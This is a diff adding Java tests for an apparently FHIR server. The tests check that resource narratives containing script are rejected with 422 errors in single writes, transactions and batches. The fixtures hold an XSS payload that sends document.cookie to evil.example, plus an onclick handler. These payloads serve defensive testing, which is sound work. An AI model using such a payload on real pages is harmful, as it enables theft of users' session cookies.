@@ -205,6 +205,74 @@ public abstract class IntakeContract {
 		});
 	}
 
+	// ---- narrative safety (txt-1, txt-2) on resources with and without a held profile ----
+
+	@Test
+	public void usCorePatientWithAGeneratedTableNarrative_isStored() {
+		String marker = UUID.randomUUID().toString();
+		Response created = fhir.post("/fhir/Patient", fixture("Patient-us-core-generated-narrative.json", marker), FhirHttp.FHIR_JSON);
+		assertThat(created.status()).as(created.body()).isEqualTo(201);
+		Patient stored = fhir.get(location(created)).as(Patient.class);
+		assertThat(stored.getText().getDivAsString()).contains("<table", "14 March 1975");
+	}
+
+	@Test
+	public void patientWithScriptInItsNarrative_isRefusedWith422AtTheDiv_notStored_andValidateAgrees() {
+		String marker = UUID.randomUUID().toString();
+		String patient = scriptedPatient(marker);
+
+		Response written = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON);
+
+		assertThat(written.status()).as(written.body()).isEqualTo(422);
+		List<String> writeErrors = errors(written.as(OperationOutcome.class));
+		assertThat(writeErrors).anySatisfy(error -> assertThat(error).startsWith("[Patient.text.div]").contains("<script>"));
+		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
+
+		Response validated = validate("Patient", patient, null, null);
+		assertThat(validated.status()).isEqualTo(200);
+		assertThat(errors(validated.as(OperationOutcome.class))).containsExactlyInAnyOrderElementsOf(writeErrors);
+	}
+
+	@Test
+	public void scriptInANarrative_refusesTheWholeTransaction_andOnlyItsEntryOfABatch() {
+		String marker = UUID.randomUUID().toString();
+		String condition = """
+				{"resourceType": "Condition",
+				 "text": {"status": "generated", "div": "<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p onclick=\\"alert(1)\\">Asthma</p></div>"},
+				 "code": {"text": "Asthma"}, "subject": {"reference": "urn:uuid:%s"}}""";
+		String patientUuid = UUID.randomUUID().toString();
+		String entries = """
+				[{"fullUrl": "urn:uuid:%s", "resource": {"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}]},
+				  "request": {"method": "POST", "url": "Patient"}},
+				 {"resource": %s, "request": {"method": "POST", "url": "Condition"}}]""".formatted(
+				patientUuid, TEST_SYSTEM, marker, condition.formatted(patientUuid));
+
+		Response transaction = fhir.post("/fhir", "{\"resourceType\": \"Bundle\", \"type\": \"transaction\", \"entry\": " + entries + "}",
+				FhirHttp.FHIR_JSON);
+		assertThat(transaction.status()).as(transaction.body()).isEqualTo(422);
+		assertThat(errors(transaction.as(OperationOutcome.class)))
+				.anySatisfy(error -> assertThat(error).startsWith("[Condition.text.div]").contains("onclick"));
+		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
+
+		Response batch = fhir.post("/fhir", "{\"resourceType\": \"Bundle\", \"type\": \"batch\", \"entry\": "
+				+ entries.replace("urn:uuid:" + patientUuid + "\"}", "Patient/" + newPatient() + "\"}") + "}", FhirHttp.FHIR_JSON);
+		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
+		Bundle result = batch.as(Bundle.class);
+		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
+		assertThat(result.getEntry().get(1).getResponse().getStatus()).startsWith("422");
+		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome()))
+				.anySatisfy(error -> assertThat(error).startsWith("[Condition.text.div]").contains("onclick"));
+	}
+
+	static String scriptedPatient(String marker) {
+		return """
+				{"resourceType": "Patient",
+				 "text": {"status": "generated",
+				          "div": "<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p>Jane Doe</p><script>fetch('https://evil.example/?c=' + document.cookie)</script></div>"},
+				 "identifier": [{"system": "%s", "value": "%s"}],
+				 "name": [{"family": "Doe", "given": ["Jane"]}]}""".formatted(TEST_SYSTEM, marker);
+	}
+
 	// ---- further packages and the profile parameter ----
 
 	@Test
